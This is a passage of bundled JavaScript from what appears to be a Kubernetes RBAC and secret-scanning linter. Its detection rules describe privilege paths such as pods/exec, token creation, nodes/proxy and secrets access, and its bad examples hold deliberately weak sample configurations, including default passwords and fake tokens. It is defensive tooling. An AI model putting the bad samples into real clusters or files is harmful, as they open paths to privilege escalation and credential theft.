            const named = rule.resources.filter(({ string }) => identities.test(string));
            const verb = rule.verbs.find(({ string }) => string === 'impersonate');
            if (verb !== undefined && named.length > 0)
                yield { at: verb, extent: (0,kubernetes_rbac/* stringsOf */.iw)(named), message: `${role.subject} may impersonate ${(0,kubernetes_rbac/* quoted */.TL)(named)}` };
            // No other verb is for users and groups; of service accounts and `*` a wildcard mostly means something else.
            const user = named.find(({ string }) => string === 'users' || string === 'groups' || string === 'uids');
            const all = rule.verbs.some(({ string }) => string === '*');
            if (all && user !== undefined)
                yield { at: user, message: `${role.subject} may impersonate "${user.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/network-modify.js



const changing = ['create', 'update', 'patch', 'delete', 'deletecollection'];
const permissions = [
    { groups: ['', 'discovery.k8s.io'], resources: ['services', 'services/status', 'endpoints', 'endpointslices'], verbs: changing },
    { groups: ['networking.k8s.io', 'extensions', ''], resources: ['networkpolicies', 'ingresses'], verbs: changing },
    { groups: ['cilium.io'], resources: ['ciliumnetworkpolicies', 'ciliumclusterwidenetworkpolicies'], verbs: changing },
    { groups: ['projectcalico.org', 'crd.projectcalico.org'], resources: ['networkpolicies', 'globalnetworkpolicies'], verbs: changing },
];
/* harmony default export */ const network_modify = ((0,rule/* defineRule */.Km)({
    id: 'rbac/network-modify',
    severity: 'medium',
    threat: 'access',
    summary: 'A role may change where traffic goes',
    why: 'Whoever writes Services and Endpoints can draw traffic to itself (CVE-2020-8554, CVE-2021-25740); whoever writes network policies can let it through.',
    instead: 'Leave network objects to the deployment pipeline and the controllers that own them.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
        cve('CVE-2020-8554'),
        cve('CVE-2021-25740'),
        attack('T1557'),
    ],
    peers: ['trivy:KSV-0056', 'checkov:CKV2_K8S_4', 'gatekeeper:block-endpoint-edit-default-role'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: app
rules:
  - apiGroups: [networking.k8s.io]
    resources: [networkpolicies]
    verbs: [create, delete]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: app
rules:
  - apiGroups: [networking.k8s.io]
    resources: [networkpolicies]
    verbs: [get, list, watch]
`,
    on: 'role',
    *check(role) {
        const seen = new Set();
        for (const { resource, verbs } of permissions.flatMap((permission) => [...(0,kubernetes_rbac/* grantsOf */.Rr)(role, permission)])) {
            if (seen.has(resource))
                continue;
            seen.add(resource);
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/node-proxy.js



const node_proxy_permission = {
    groups: [''],
    resources: ['nodes/proxy'],
    verbs: ['get', 'create'],
};
/* harmony default export */ const node_proxy = ((0,rule/* defineRule */.Km)({
    id: 'rbac/node-proxy',
    severity: 'high',
    threat: 'access',
    summary: 'A role may reach the kubelets of nodes through the API server',
    why: 'The kubelet API runs commands in every pod of the node, and what goes through it is neither audited nor seen by admission.',
    instead: 'Use `nodes/metrics` or `nodes/stats` for monitoring.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#access-to-proxy-subresource-of-nodes', 'RBAC good practices, proxy subresource of nodes'),
        attack('T1609'),
        cwe(269),
    ],
    peers: ['trivy:KSV-0047', 'kubescape:rule-can-access-proxy-subresource', 'kyverno:restrict-clusterrole-nodesproxy'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [nodes/proxy]
    verbs: [get]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [nodes/metrics]
    verbs: [get]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, node_proxy_permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/persistent-volume-create.js



const persistent_volume_create_permission = {
    groups: [''],
    resources: ['persistentvolumes'],
    verbs: ['create', 'update', 'patch'],
};
/* harmony default export */ const persistent_volume_create = ((0,rule/* defineRule */.Km)({
    id: 'rbac/persistent-volume-create',
    severity: 'medium',
    threat: 'access',
    summary: 'A role may create persistent volumes',
    why: 'A PersistentVolume may be a `hostPath`: whoever creates one and claims it has the file system of a node, whatever Pod Security says.',
    instead: 'Let a storage class provision volumes for claims.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#persistent-volume-creation', 'RBAC good practices, persistent volume creation'),
        attack('T1611'),
    ],
    peers: ['kubescape:rule-can-create-pv'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [persistentvolumes]
    verbs: [create]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [persistentvolumeclaims]
    verbs: [create]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, persistent_volume_create_permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/pod-exec.js



const pod_exec_permission = {
    groups: [''],
    resources: ['pods/exec', 'pods/attach'],
    verbs: ['create', 'get', 'update', 'patch'],
};
/* harmony default export */ const pod_exec = ((0,rule/* defineRule */.Km)({
    id: 'rbac/pod-exec',
    severity: 'high',
    threat: 'access',
    summary: 'A role may run commands in pods',
    why: 'Who can open a shell in a pod has its service account, its Secrets and its network, and leaves no trace in any manifest.',
    instead: 'Leave `pods/exec` and `pods/attach` to people in an emergency, by a role that is bound for that time.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
        attack('T1609'),
        cwe(269),
    ],
    peers: [
        'trivy:KSV-0053',
        'trivy:KSV-0054',
        'checkov:CKV2_K8S_2',
        'kics:rbac_roles_with_exec_permission',
        'kics:rbac_roles_with_attach_permission',
    ],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [pods/exec]
    verbs: [create]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [pods/log]
    verbs: [get]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, pod_exec_permission)) {
            yield {
                at: resource,
                extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs),
                message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"`,
                severity: role.kind === 'Role' ? 'medium' : 'high',
            };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/pod-portforward.js



const pod_portforward_permission = {
    groups: [''],
    resources: ['pods/portforward'],
    verbs: ['create', 'get', 'update', 'patch'],
};
/* harmony default export */ const pod_portforward = ((0,rule/* defineRule */.Km)({
    id: 'rbac/pod-portforward',
    severity: 'medium',
    threat: 'access',
    summary: 'A role may forward ports of pods',
    why: 'A forwarded port reaches what a pod listens on past every NetworkPolicy and Service, also on its loopback.',
    instead: 'Leave `pods/portforward` out; give access through a Service or a gateway that authenticates.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
        attack('T1090'),
    ],
    peers: ['kics:rbac_roles_with_portforwarding_permissions', 'kubescape:rule-can-portforward-v1'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [pods/portforward]
    verbs: [create]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [pods]
    verbs: [get]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, pod_portforward_permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/secrets-access.js



const secrets_access_permission = {
    groups: [''],
    resources: ['secrets'],
    verbs: ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete', 'deletecollection'],
};
/* harmony default export */ const secrets_access = ((0,rule/* defineRule */.Km)({
    id: 'rbac/secrets-access',
    severity: 'high',
    threat: 'access',
    summary: 'A role may read or change Secrets',
    why: 'Secrets hold the credentials of other programs, and `list` and `watch` give their content as `get` does: the subject becomes any of them.',
    instead: 'Mount the one Secret that is needed into the pod, or name it in `resourceNames` with the verb `get`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#listing-secrets', 'RBAC good practices, listing secrets'),
        attack('T1552.007'),
        cwe(522),
    ],
    peers: [
        'trivy:KSV-0041',
        'trivy:KSV-0113',
        'checkov:CKV2_K8S_5',
        'kube-linter:access-to-secrets',
        'kics:rbac_roles_with_read_secrets_permissions',
    ],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [secrets]
    verbs: [get, list]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [configmaps]
    verbs: [get, list]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, secrets_access_permission)) {
            yield {
                at: resource,
                extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs),
                message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"`,
                severity: role.kind === 'Role' ? 'medium' : 'high',
            };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/system-masters-binding.js



/* harmony default export */ const system_masters_binding = ((0,rule/* defineRule */.Km)({
    id: 'rbac/system-masters-binding',
    severity: 'critical',
    threat: 'access',
    summary: 'A binding names the group system:masters',
    why: 'Members of this group pass every authorization check, and nothing but new certificates takes that away: a role for it is either useless or a way in.',
    instead: 'Bind a group of your own.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices: avoid adding users to system:masters'),
        cwe(269),
        attack('T1098.006'),
    ],
    peers: ['trivy:KSV-0123', 'kyverno:restrict-binding-system-groups'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: readers
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: reader
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: system:masters
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: readers
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: reader
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: readers@example.com
`,
    on: 'roleBinding',
    *check(binding) {
        for (const { kind, name, nameNode } of (0,kubernetes_rbac/* subjectsOf */.Z6)(binding)) {
            if (kind === 'Group' && name === 'system:masters')
                yield { at: nameNode, message: `${binding.subject} names the group "${name}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/token-create.js



const token_create_permission = {
    groups: [''],
    resources: ['serviceaccounts/token'],
    verbs: ['create'],
};
/* harmony default export */ const token_create = ((0,rule/* defineRule */.Km)({
    id: 'rbac/token-create',
    severity: 'high',
    threat: 'access',
    summary: 'A role may issue tokens of service accounts',
    why: 'The subject can become every service account that it can name, with all that those may do.',
    instead: 'Let pods have their tokens projected by the kubelet; where tokens must be issued, name the service account in `resourceNames`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#token-request', 'RBAC good practices, token request'),
        attack('T1528'),
        cwe(269),
    ],
    peers: ['kubescape:rule-can-create-service-account-token'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [serviceaccounts/token]
    verbs: [create]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [serviceaccounts]
    verbs: [get]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, token_create_permission)) {
            yield {
                at: resource,
                extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs),
                message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"`,
                severity: role.kind === 'Role' ? 'medium' : 'high',
            };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/wildcard.js



const fields = ['resources', 'verbs', 'apiGroups'];
/* harmony default export */ const wildcard = ((0,rule/* defineRule */.Km)({
    id: 'rbac/wildcard',
    severity: 'high',
    threat: 'access',
    summary: 'A role allows everything by a wildcard',
    why: 'A wildcard also covers every kind and verb that is installed later, and subresources such as `pods/exec` and `serviceaccounts/token`.',
    instead: 'List the resources and verbs that are used.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
        cwe(269),
        attack('T1098.006'),
    ],
    peers: [
        'trivy:KSV-0044',
        'trivy:KSV-0045',
        'trivy:KSV-0046',
        'checkov:CKV_K8S_49',
        'kube-linter:wildcard-in-rules',
        'kics:rbac_wildcard_in_rule',
    ],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['*']
    resources: ['*']
    verbs: ['*']
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: [apps]
    resources: [deployments]
    verbs: [get, list, patch]
`,
    on: 'role',
    *check(role) {
        for (const rule of (0,kubernetes_rbac/* policyRulesOf */.nm)(role)) {
            const all = wildcardIn(rule);
            if (all === undefined)
                continue;
            const [node, field] = all;
            const severity = field === 'resources' && (0,kubernetes_rbac/* coversGroup */.Ut)(rule, '') ? 'high' : field === 'apiGroups' ? 'low' : 'medium';
            yield { at: node, severity, extent: extentOf(rule), message: `${role.subject} has "*" for ${field}` };
        }
    },
}));
function extentOf(rule) {
    return fields.flatMap((field) => (0,kubernetes_rbac/* stringsOf */.iw)(rule[field]).map((name) => `${field} ${name}`));
}
/** The widest one of a rule: all resources, all verbs, all groups. */
function wildcardIn(rule) {
    for (const field of fields) {
        const node = rule[field].find(({ string }) => string === '*');
        if (node !== undefined)
            return [node, field];
    }
    return undefined;
}

;// CONCATENATED MODULE: ./lib/rules/rbac/workload-create.js



const workload_create_permission = {
    groups: ['', 'apps', 'batch', 'extensions'],
    resources: ['pods', 'deployments', 'daemonsets', 'statefulsets', 'replicasets', 'replicationcontrollers', 'jobs', 'cronjobs'],
    verbs: ['create', 'update', 'patch'],
};
/* harmony default export */ const workload_create = ((0,rule/* defineRule */.Km)({
    id: 'rbac/workload-create',
    severity: 'medium',
    threat: 'access',
    summary: 'A role may create or change workloads',
    why: 'Whoever creates a pod chooses its service account, mounts any Secret of the namespace and, unless Pod Security forbids it, the node itself.',
    instead: 'Give it to the deployment pipeline alone, in the namespaces that it deploys to, and enforce a Pod Security Standard there.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#workload-creation', 'RBAC good practices, workload creation'),
        attack('T1610'),
    ],
    peers: ['trivy:KSV-0048', 'kube-linter:access-to-create-pods', 'kics:permissive_access_to_create_pods', 'kubescape:rule-can-create-pod'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [pods]
    verbs: [create]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [pods]
    verbs: [get, list]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, workload_create_permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/connection-string.js



/* harmony default export */ const connection_string = ((0,rule/* defineRule */.Km)({
    id: 'secret/connection-string',
    severity: 'high',
    threat: 'secret',
    summary: 'A URL or a connection string holds a password',
    why: 'The string names the host, the user and the password together: nothing is left to guess, and such strings are printed by many clients when a connection fails.',
    instead: 'Change the password. Keep the host and the user in configuration and the password in a secret store, and join them when the program starts.',
    references: [
        { title: 'CWE-798: Use of hard-coded credentials', url: 'https://cwe.mitre.org/data/definitions/798.html' },
        { title: 'RFC 3986, section 3.2.1: User information', url: 'https://www.rfc-editor.org/rfc/rfc3986#section-3.2.1' },
        { title: 'MITRE ATT&CK T1552.001: Credentials in files', url: 'https://attack.mitre.org/techniques/T1552/001/' },
    ],
    confidential: true,
    supersedes: ['secret/*', 'dockerfile/secret-in-env-or-arg'],
    bad: `DATABASE_URL=postgres://${'shop'}:${'mWq7Lr2xVd'}@db.shop.internal:5432/orders\n`,
    good: 'DATABASE_URL=postgres://shop:${DATABASE_PASSWORD}@db.shop.internal:5432/orders\n',
    on: 'credential',
    *check(credential) {
        if ((0,describe/* isConnectionString */.mO)(credential))
            yield { at: credential, message: (0,describe/* describeCredential */.t8)(credential), advice: adviceOn(credential) };
    },
}));

// EXTERNAL MODULE: ./lib/credentials/judge.js
var judge = __webpack_require__(3841);
;// CONCATENATED MODULE: ./lib/rules/secret/credential-file.js



/* harmony default export */ const credential_file = ((0,rule/* defineRule */.Km)({
    id: 'secret/credential-file',
    severity: 'high',
    threat: 'secret',
    summary: 'A file of credentials is committed',
    why: 'Files such as kubeconfig, `.netrc`, `.npmrc` and the configuration of a container engine hold what their programs log in with: with the file, everybody logs in the same way.',
    instead: 'Revoke the credential and take the file out of the repository. Let the program read it from the environment (`${NPM_TOKEN}`), from a credential helper, or from a plugin that asks for a short-lived one.',
    references: [
        cwe(538),
        attack('T1552.001'),
        kubernetes('concepts/configuration/organize-cluster-access-kubeconfig/', 'Organizing cluster access using kubeconfig files'),
    ],
    confidential: true,
    supersedes: ['secret/password-argument'],
    bad: { '.netrc': `machine git.internal\n  login build\n  password ${'q7Wz'}48LmPx\n` },
    good: { '.npmrc': '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n' },
    on: 'namedValue',
    concerns: (named) => (0,judge/* judge */.S)(named) === 'credential-file',
    *check(named) {
        yield { at: named, message: `"${named.name}" is written out in a file of credentials` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/default-login.js



const configuration = /(?:^|\/)\.?env(?:\.[\w.-]+)?$|\.(?:env|properties|ini|conf|cfg|cnf|toml|tf|tfvars|hcl)$/i;
/** What a program reads; elsewhere such a login is mostly a sample or a test. */
const isConfiguration = ({ kind, text }) => kind !== 'text' || configuration.test(text.path);
/* harmony default export */ const default_login = ((0,rule/* defineRule */.Km)({
    id: 'secret/default-login',
    severity: 'high',
    threat: 'secret',
    summary: 'A URL, a connection string or a command has a password that everybody tries first',
    why: 'The string says where to go, as whom, and with a password that programs come with: whoever reaches the host is in without having read the repository.',
    instead: 'Give the account a random password of its own, keep it in a secret store, and join host, user and password when the program starts.',
    references: [cwe(1393), attack('T1078.001')],
    confidential: 'known',
    supersedes: ['secret/password', 'secret/default-password', 'secret/possible-credential'],
    bad: `DATABASE_URL=postgres://postgres:${'post'}gres@db.shop.internal:5432/orders\n`,
    good: 'DATABASE_URL=postgres://shop:${DATABASE_PASSWORD}@db.shop.internal:5432/orders\n',
    on: 'credential',
    *check(credential, { strict }) {
        if (!(0,describe/* isWeakLogin */.oQ)(credential))
            return;
        const isSure = (0,describe/* isDefaultLogin */.jm)(credential) && isConfiguration(credential.document);
        if (!isSure && !strict)
            return;
        const message = isSure ? 'logs in with a password that everybody tries first' : 'may log in with a password that everybody tries first';
        yield { at: credential, message, ...(!isSure && { severity: 'medium' }) };
    },
}));

;// CONCATENATED MODULE: ./lib/credentials/compose-secret.js



/**
 * Variables that an image reads from a file instead, if their name ends in `_FILE`: each image's own page, "Docker Secrets".
 * What an image does not say of itself is not guessed.
 */
const readFromFile = {
    postgres: /^POSTGRES_PASSWORD$/,
    mysql: /^MYSQL_(?:ROOT_)?PASSWORD$/,
    mariadb: /^(?:MYSQL|MARIADB)_(?:ROOT_)?PASSWORD$/,
    mongo: /^MONGO_INITDB_ROOT_PASSWORD$/,
    wordpress: /^WORDPRESS_(?:DB_PASSWORD|(?:AUTH|SECURE_AUTH|LOGGED_IN|NONCE)_(?:KEY|SALT))$/,
    redmine: /^REDMINE_(?:DB_PASSWORD|SECRET_KEY_BASE)$/,
    nextcloud: /^(?:NEXTCLOUD_ADMIN_PASSWORD|MYSQL_PASSWORD|POSTGRES_PASSWORD|REDIS_HOST_PASSWORD|SMTP_PASSWORD|OBJECTSTORE_S3_(?:KEY|SECRET))$/,
};
/** The edits with which a service reads the value from a secret of the file. Undefined where its image may not do so, or the file is in the way. */
function composeSecret({ document, name, value, span, entry }) {
    const file = document.grains('composeFile').find(({ root }) => root.span.start <= span.start && span.end <= root.span.end);
    const service = file?.services.find(({ node }) => node.span.start <= span.start && span.end <= node.span.end);
    if (file === undefined || service === undefined || !readsFile(service, name))
        return undefined;
    const secret = secretName(file.root, service, name, value);
    // An item of a list is `NAME=value`.
    const assigned = { start: span.start - name.length - 1, end: span.end };
    if (secret === undefined || (entry === undefined && !document.text.slice(assigned).startsWith(`${name}=`)))
        return undefined;
    const path = `/run/secrets/${secret}`;
    const own = entry === undefined
        ? [{ span: assigned, text: `${name}_FILE=${path}` }]
        : [
            { span: { start: entry.key.span.end, end: entry.key.span.end }, text: '_FILE' },
            { span, text: path },
        ];
    const others = [grant(service, secret), setAt(document.text, file.root, ['secrets', secret, 'file'], `./${secret}.txt`)];
    const edits = [...own, ...others].filter((edit) => edit !== undefined);
    const isQuotedKey = entry !== undefined && entry.key.style !== 'plain';
    return edits.length === own.length + others.length && !isQuotedKey ? { name: secret, edits: coalesced(edits) } : undefined;
}
/** What is inserted where another edit ends becomes a part of that edit: the value may be the last of its service, and that the last of the file. */
function coalesced(edits) {
    const result = [];
    for (const edit of [...edits].sort((a, b) => a.span.start - b.span.start)) {
        const last = result.at(-1);
        if (last?.span.end === edit.span.start)
            result[result.length - 1] = { span: { ...last.span, end: edit.span.end }, text: last.text + edit.text };
        else
            result.push(edit);
    }
    return result;
}
function readsFile(service, variable) {
    const image = (0,documents_image/* parseImage */.zZ)(service.own('image')?.string ?? '');
    if (image === null || (image.registry !== null && image.registry.value !== 'docker.io'))
        return false;
    return readFromFile[image.repository.value.replace(/^library\//, '')]?.test(variable) === true;
}
/** Not one that the file has, and without the value, which no edit may repeat. */
function secretName(root, service, variable, value) {
    const words = (0,credentials_name/* wordsOf */.Z9)(variable);
    const names = [words.join('_'), `${service.name}_${words.join('_')}`, `${service.name}_${words.at(-1)}`, `${service.name}_login`];
    const edit = (name) => `_FILE /run/secrets/${name} secrets file ./${name}.txt`;
    return names.find((name) => /^[\w-]+$/.test(name) && root.at('secrets', name) === undefined && !edit(name).includes(value));
}
function grant({ document, node }, secret) {
    const granted = ownEntry(node, 'secrets');
    if (granted === undefined)
        return setAt(document.text, node, ['secrets'], [secret]);
    return granted.value.kind === 'sequence' && granted.alias === null ? appendItem(document.text, granted.value, secret) : undefined;
}

;// CONCATENATED MODULE: ./lib/credentials/reference.js




/** The edit that puts a reference in a literal's place, where the format has one. The literal is not in it. */
function referenceInstead(named) {
    const { document, entry, name, place } = named;
    if (entry?.alias)
        return undefined;
    const secret = document.kind === 'compose' && place === 'environment' ? composeSecret(named) : undefined;
    if (secret !== undefined) {
        const title = `Read it from the secret ${secret.name}, whose file is not committed`;
        return {
            title,
            safe: false,
            edits: secret.edits,
            kept: `Write the new one to \`./${secret.name}.txt\`, and name that file in \`.gitignore\`.`,
        };
    }
    if (entry === undefined)
        return undefined;
    const variable = (0,credentials_name/* wordsOf */.Z9)(name).join('_').toUpperCase();
    const replaced = (title, text) => ({ title, safe: false, edits: [{ span: named.span, text }] });
    if (document.kind === 'workflow')
        return replaced(`Take it from the secret ${(0,credentials_name/* actionsSecret */.A1)(name)}`, `\${{ secrets.${(0,credentials_name/* actionsSecret */.A1)(name)} }}`);
    if (place !== 'environment')
        return undefined;
    if (document.kind === 'compose')
        return replaced(`Take it from the variable ${variable} of who starts it`, `\${${variable}:?}`);
    return document.kind === 'kubernetes' && isVariableOfContainer(named) ? secretKeyReference(named, entry.span) : undefined;
}
/** Only EnvVar has `valueFrom` (Kubernetes API reference, v1): a parameter of an Argo CD application or of a Tekton run has a name and a value too. */
const isVariableOfContainer = ({ document, entry }) => entry?.key.string === 'value' &&
    document
        .grains('container')
        .some((container) => (0,yaml_values/* itemsOf */.S3)(container.at('env')).some((item) => item.kind === 'map' && item.entries.includes(entry)));
/** Kubernetes: `value` becomes `valueFrom.secretKeyRef`, in a Secret that is called after the variable. */
function secretKeyReference({ document: { text }, name }, span) {
    const { column } = text.position(span.start);
    if (/[{]/.test(text.slice(text.line(text.position(span.start).line))))
        return undefined;
    const secret = (0,credentials_name/* wordsOf */.Z9)(name).join('-');
    const written = writeEntry('valueFrom', { secretKeyRef: { name: secret, key: secret } }, column - 1, styleOf(text));
    return { title: `Take it from the Secret ${secret}`, safe: false, edits: [{ span, text: written }] };
}

;// CONCATENATED MODULE: ./lib/rules/secret/default-password.js





/* harmony default export */ const default_password = ((0,rule/* defineRule */.Km)({
    id: 'secret/default-password',
    severity: 'high',
    threat: 'secret',
    supersedes: ['secret/password', 'secret/kubernetes-secret', 'secret/credential-file', 'dockerfile/secret-in-env-or-arg'],
    summary: 'A password is one that everybody tries first',
    why: 'The passwords that programs come with, and the most common ones, are the first that a scanner tries: such a password is none.',
    instead: 'Give every installation a random password of its own, from a secret store or made at the first start.',
    references: [
        cwe(1393),
        attack('T1078.001'),
        {
            title: 'CIS Controls 4.7: Manage default accounts',
            url: 'https://www.cisecurity.org/controls/secure-configuration-of-enterprise-assets-and-software',
        },
    ],
    confidential: 'known',
    bad: { 'compose.yaml': `services:\n  db:\n    image: postgres:17.2\n    environment:\n      POSTGRES_PASSWORD: ${'post'}gres\n` },
    good: {
        'compose.yaml': 'services:\n  db:\n    image: postgres:17.2\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db-password\n',
    },
    on: 'namedValue',
    concerns: (named) => (0,judge/* judge */.S)(named) === 'default-password',
    *check(named) {
        const fix = referenceInstead(named);
        yield { at: named, fix, advice: adviceOnNamed(named, fix?.kept), message: `"${named.name}" has a value that everybody tries first` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/in-history.js


/* harmony default export */ const in_history = ((0,rule/* defineChangeRule */.mM)({
    id: 'secret/in-history',
    severity: 'critical',
    threat: 'secret',
    summary: 'A credential was added and taken away again within the change',
    why: 'What a commit once held stays in history: in every clone and fork, and on GitHub even after a squash merge or a force push. The diff of the whole change does not show it, so nobody looks.',
    instead: 'Revoke the credential where it was issued: once pushed it counts as read. If nothing was pushed yet, squash the commits so that none of them holds it; else a rewritten history does not undo the leak.',
    references: [
        cwe(540),
        attack('T1552.001'),
        {
            title: 'GitHub: Removing sensitive data from a repository',
            url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository',
        },
    ],
    bad: {
        base: { 'deploy.env': 'REGION=eu-1\n' },
        between: [{ 'deploy.env': `REGION=eu-1\nDEPLOY_TOKEN=${'gh'}${'p_'}wqK8t2ZrN4vYb7LdX1sHc5mJf9GaPe3UoTi6\n` }],
        head: { 'deploy.env': 'REGION=eu-1\n' },
    },
    good: {
        base: { 'deploy.env': 'REGION=eu-1\n' },
        between: [{ 'deploy.env': 'REGION=eu-1\nDEPLOY_TOKEN_FILE=/run/secrets/deploy-token\n' }],
        head: { 'deploy.env': 'REGION=eu-1\n' },
    },
    confidential: true,
    on: 'pastCredential',
    *compare(past) {
        if (past === null)
            return;
        const gone = past.removedBy === null ? 'gone' : `gone since commit ${in_history_short(past.removedBy)}`;
        const message = `${past.message}; added by commit ${in_history_short(past.addedBy)}, ${gone}, and still in history: revoke it`;
        yield { removed: past, message, severity: past.severity, ...(past.advice && { advice: past.advice }) };
    },
}));
const in_history_short = (id) => id.slice(0, 12);

;// CONCATENATED MODULE: ./lib/documents/dockerfile-credentials.js


/** Files whose only use is to hold credentials, by the manuals of their programs. */
